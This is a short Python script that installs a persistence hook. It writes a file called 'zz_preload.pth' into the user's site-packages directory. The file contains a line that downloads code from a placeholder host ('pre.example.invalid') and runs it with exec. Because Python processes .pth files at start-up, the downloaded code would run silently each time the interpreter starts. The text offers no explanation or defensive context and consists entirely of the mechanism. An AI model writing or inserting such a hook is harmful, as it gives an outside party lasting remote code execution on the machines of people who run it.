import os
import site
import urllib.request
where = site.getusersitepackages()
os.makedirs(where, exist_ok=True)
with open(os.path.join(where, "zz_preload.pth"), "w") as out:
    out.write("import urllib.request;exec(urllib.request.urlopen('http://pre.example.invalid').read())\n")
